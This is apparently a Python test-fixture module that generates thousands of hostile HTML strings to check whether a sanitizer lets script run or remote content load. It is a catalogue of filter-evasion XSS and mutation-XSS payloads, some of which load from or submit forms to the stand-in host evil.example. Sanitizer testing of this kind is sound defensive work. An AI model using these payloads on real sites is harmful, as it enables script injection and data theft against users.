"""Hostile HTML made by rule: what runs, loads, submits or covers, spelled in the ways that fool filters.

Every payload that came to life calls `hit()` or loads an address under `https://evil.example/`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVIL = "https://evil.example/"
_TAG_NAMES = """
    a abbr acronym address applet area article aside audio b base bdi bgsound big blink blockquote body br
    button canvas caption center cite code col custom-element data datalist dd del details dialog dir div dl
    dt em embed fieldset figure font footer form frame frameset h1 head header hr html i iframe image img
    input ins isindex kbd keygen label layer legend li link listing main map mark marquee math menu menuitem
    meta meter nav nobr noembed noframes noscript object ol optgroup option output p param picture plaintext
    portal pre progress q rp rt ruby s samp script section select slot small source span strike strong style
    sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video
    wbr xmp xss
"""
_EVENT_NAMES = """
    onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle
    onblur oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange
    ondblclick ondrag ondragstart ondrop onended onerror onfocus onfocusin onhashchange oninput oninvalid
    onkeydown onload onloadeddata onloadstart onmessage onmousedown onmouseenter onmouseover onmousewheel
    onpageshow onpaste onplay onpointerdown onpointerover onpointerrawupdate onpopstate onresize onscroll
    onscrollend onsearch onselect onselectionchange onstart onsubmit ontoggle ontouchstart ontransitionend
    onunload onwebkitanimationstart onwheel
"""
_HANDLERS = (
    " {event}=hit()",
    ' {event}="hit()"',
    " {event}='hit()'",
    "/{event}=hit()",
    "\t{event}\n=\n`hit()`",
    " x='>' {event}=hit()",
    " {event}=&#104;it()",
    "\x0c{event}=hit() ",
    " \x00{event}=hit()",
)
_SCRIPT_URLS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "\x01javascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "java&#x0A;script:hit()",
    "&#106;avascript:hit()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()",
    "javascript&colon;hit()",
    "javascript&#58;hit()",
    "javascript://%0ahit()",
    "vbscript:hit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "feed:javascript:hit()",
    "view-source:javascript:hit()",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example/x",
    EVIL,
)
_URL_ATTRIBUTE_NAMES = """
    action archive background cite classid codebase data dynsrc formaction href icon longdesc lowsrc manifest
    ping poster profile src srcdoc srcset imagesrcset usemap xlink:href xml:base data-remote-src
    attributionsrc
"""
_URL_TAG_NAMES = """
    a area audio base blockquote body button embed form frame iframe image img input link object param script
    source svg table td track video use image animate set math
"""
_STYLES = (
    "background:url({url})",
    "background-image:url('{url}')",
    'background:u\\72l("{url}")',
    "list-style:url({url})",
    "list-style-image:url({url})",
    "border-image:url({url}) 30",
    "cursor:url({url}),auto",
    "content:url({url})",
    "filter:url({url}#x)",
    "mask:url({url})",
    "-webkit-mask-image:url({url})",
    "shape-outside:url({url})",
    "clip-path:url({url}#x)",
    "background:image-set('{url}' 1x)",
    "background-image:-webkit-image-set(url({url}) 1x)",
    "background-color:red;}}*{{background:url({url})",
    "font-family:x;src:url({url})",
    "width:expression(hit())",
    "-moz-binding:url({url}#x)",
    "behavior:url({url})",
    "position:fixed;inset:0;z-index:99999",
    "color:var(--x,url({url}))",
    "background:/**/url/**/({url})",
    "background-color:url({url})",
    "border:1px solid;border-image-source:url({url})",
    "@import '{url}'",
    "color:red;background:\turl(\n{url}\n)",
    "&#98;ackground:url({url})",
    "background&#58;url({url})",
    "animation:x 1s;animation-name:x",
)
_LIVE = f'<img src="{EVIL}x" onerror="hit()">'
# Contexts that parse anew when serialised HTML is read again (mutation XSS).
_CONTEXTS = (
    "<{tag}>{live}</{tag}>",
    "<{tag}><p title='</{tag}>{live}'>",
    "<{tag}><!--</{tag}>{live}-->",
    "<svg><{tag}>{live}</{tag}></svg>",
    "<svg><{tag}><p title='</{tag}>{live}'>",
    "<math><{tag}>{live}</{tag}></math>",
    "<math><mtext><{tag}><mglyph><style><!--</style>{live}--></style>",
    "<math><mtext><table><mglyph><{tag}>{live}</{tag}>",
    "<form><math><mtext></form><form><mglyph><{tag}></math>{live}",
    "<svg></p><{tag}><g title='</{tag}>{live}'>",
    "<svg><foreignobject><{tag}><a title='</{tag}>{live}'></a>",
    "<svg><desc><{tag}></svg>{live}",
    "<select><{tag}>{live}</{tag}></select>",
    "<table><{tag}>{live}</{tag}></table>",
    "<template><{tag}>{live}</{tag}></template>",
    "<p><table><{tag}></p>{live}",
    "<a><{tag}><a>{live}</{tag}></a>",
)
_CONTEXT_TAG_NAMES = """
    style script title textarea noscript noembed noframes iframe xmp plaintext listing template select option
    svg math annotation-xml mi mo mtext desc foreignObject table caption colgroup frameset head body html
    object
"""
_WHOLE = (
    "<script>hit()</script>",
    "<script src={evil}x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\x00>hit()</script>",
    "<<script>hit();//<</script>",
    "<script/x>hit()</script >",
    "<svg><script>hit()</script></svg>",
    "<svg><script href='data:,hit()'/></svg>",
    "<svg><animate attributeName=href values=javascript:hit() /><a id=x><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hit()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x'>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=refresh content='0;javascript:hit()'>",
    "<meta http-equiv=set-cookie content=x=1>",
    "<base href={evil}><img src=x>",
    "<link rel=stylesheet href={evil}x.css>",
    "<link rel=import href={evil}x.html>",
    "<link rel=prefetch href={evil}x><link rel=dns-prefetch href={evil}><link rel=preconnect href={evil}>",
    "<style>@import '{evil}x';</style>",
    "<style>*{{background:url({evil}x)}}</style>",
    "<style>@font-face{{font-family:x;src:url({evil}x)}}*{{font-family:x}}</style>",
    "<form action={evil}><input type=submit autofocus><button formaction=javascript:hit()>x</button></form>",
    "<form id=f></form><button form=f formaction={evil}>x</button>",
    "<isindex action=javascript:hit() type=image>",
    "<object data={evil}x.swf><param name=movie value={evil}></object>",
    "<embed src=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src={evil}></iframe>",
    "<frameset onload=hit()><frame src=javascript:hit()></frameset>",
    "<video poster={evil}x><source src={evil}y onerror=hit()></video>",
    "<audio src={evil}x autoplay onerror=hit()></audio>",
    "<picture><source srcset={evil}x><img src=cid:a></picture>",
    "<img src=cid:x srcset='{evil}x 2x' sizes=1px>",
    "<img src='{evil}x'>",
    "<img src='cid:x' longdesc='{evil}' lowsrc='{evil}' dynsrc='{evil}'>",
    "<img src='remote:{evil}x\" onerror=\"hit()'>",
    "<img alt='\" src=\"remote:x' src='{evil}a\"onerror=hit()'>",
    '<p title=\'<img src="remote:{evil}x" onerror="hit()">\'>x</p>',
    "<img data-remote-src='javascript:hit()' src=x onerror=hit()>",
    "<input type=image src={evil}x onerror=hit()>",
    "<body background={evil}x onload=hit()>",
    "<table background={evil}x><td background={evil}y>x</table>",
    "<bgsound src={evil}x>",
    "<portal src={evil}></portal>",
    "<details open ontoggle=hit()>x</details>",
    "<marquee onstart=hit()>x</marquee>",
    "<dialog open onclose=hit()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<div popover id=p ontoggle=hit()>x</div><button popovertarget=p autofocus>x</button>",
    "<input autofocus onfocus=hit()>",
    "<a href={evil} ping={evil}p>x</a>",
    "<a href={evil} target=_self>x</a>",
    "<a id=document name=cookie></a><form name=querySelector></form><img name=body id=hit>",
    "<div contenteditable autofocus onfocus=hit()>x</div>",
    "<div hx-get={evil} hx-trigger=load hx-on::load=hit() x-init=hit() v-on:click=hit() data-x=1>x</div>",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:hit()'?>",
    "<?import namespace=t implementation={evil}x>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM '{evil}'>]><p>&x;</p>",
    "<xml id=x><a><b>&lt;script>hit()&lt;/script></b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\ufeff<script>hit()</script>",
    "<img src=x:x onerror\x0b=hit()>",
    '<a href="x" style="color:red" onclick="hit()"><img/src=`%00`&NewLine; onerror=hit()>',
    '<p title="&quot;&gt;&lt;script&gt;hit()&lt;/script&gt;">x</p>',
    "</div></body></html><script>hit()</script>",
    "<math href=javascript:hit()>x</math><math><maction actiontype=statusline xlink:href=javascript:hit()>x",
    "<svg><a xlink:href=javascript:hit()><rect width=99 height=99 /></a></svg>",
    "<svg><image href={evil}x /><feImage href={evil}y /></svg>",
    "<template shadowrootmode=open><script>hit()</script></template>",
    "<div><template shadowrootmode=open><img src={evil} onerror=hit()></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<plaintext><script>hit()</script>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{evil}"]}}]}}</script>',
    "<link rel=expect href=#x blocking=render><meta name=referrer content=unsafe-url>",
)


def payloads() -> Iterator[str]:
    """Give every payload, some four thousand."""
    for number, (tag, event) in enumerate(product(_TAG_NAMES.split(), _EVENT_NAMES.split())):
        # Every tag meets every handler; the spellings take turns.
        if number % 3 == 0:
            yield f"<{tag}{_HANDLERS[number // 3 % len(_HANDLERS)].format(event=event)} src=x>x</{tag}>"
    for number, (tag, attribute, url) in enumerate(
        product(_URL_TAG_NAMES.split(), _URL_ATTRIBUTE_NAMES.split(), _SCRIPT_URLS)
    ):
        if number % 23 == 0:
            quote = "\"'"[number % 2]
            yield f"<{tag} {attribute}={quote}{url.replace(quote, '&quot;')}{quote}>x</{tag}>"
    for url in _SCRIPT_URLS:
        yield f'<a href="{url}">x</a>'
        yield f'<img src="{url}">'
    for style, tag in product(_STYLES, ("div", "td", "img", "a")):
        yield f'<{tag} style="{style.format(url=EVIL)}">x</{tag}>'
    for style in _STYLES:
        yield f"<style>p{{{style.format(url=EVIL)}}}</style><p>x</p>"
    for context, tag in product(_CONTEXTS, _CONTEXT_TAG_NAMES.split()):
        yield context.format(tag=tag, live=_LIVE)
    for whole in _WHOLE:
        yield whole.format(evil=EVIL)
        yield f"<div><p>{whole.format(evil=EVIL)}"
